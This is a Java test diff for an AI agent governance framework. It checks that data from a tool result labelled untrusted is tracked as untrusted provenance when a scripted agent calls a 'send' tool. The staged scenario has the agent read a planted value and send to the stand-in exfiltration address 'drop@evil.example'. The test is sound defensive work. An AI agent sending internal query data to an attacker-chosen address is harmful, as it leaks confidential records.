@@ -53,6 +53,13 @@ class FieldLabelsTest {
                     + "\"}]}" : "{\"rows\":[{\"phone\":\"+1 202 555 0142\"}]}";
         }
 
+        @Tool(name = "sql.whole", value = "a query labelled as a whole")
+        @ToolGovernance(effects = Effect.READ)
+        public String whole(@P("sql") String sql) {
+            ResultLabels.declare(Labels.of(Confidentiality.INTERNAL).withIntegrity(Integrity.UNTRUSTED));
+            return "{\"rows\":[{\"c\":\"" + company + "\"}]}";
+        }
+
         @Tool(name = "send", value = "send")
         @ToolGovernance(effects = Effect.EXTERNAL_COMMUNICATION)
         public String send(@P("to") String to) {
@@ -126,6 +133,16 @@ class FieldLabelsTest {
                 .callTool("send", Map.of("to", "drop@evil.example")).reply("ok").build())
                 .runBlocking("phones and companies", Principal.of("jane", "analyst"));
         assertThat(result("sql.q").contentLabels().integrity()).isEqualTo(Integrity.UNTRUSTED);
+        assertThat(provenanceKind("send", "to")).isEqualTo("untrusted");
+    }
+
+    @Test
+    void a_result_declared_untrusted_as_a_whole_is_untrusted_provenance() {
+        Records records = new Records();
+        records.company = PLANTED;
+        agent(records, ScriptedChatModel.script().callTool("sql.whole", Map.of("sql", "SELECT company"))
+                .callTool("send", Map.of("to", "drop@evil.example")).reply("ok").build())
+                .runBlocking("companies", Principal.of("jane", "analyst"));
         assertThat(provenanceKind("send", "to")).isEqualTo("untrusted");
     }
 
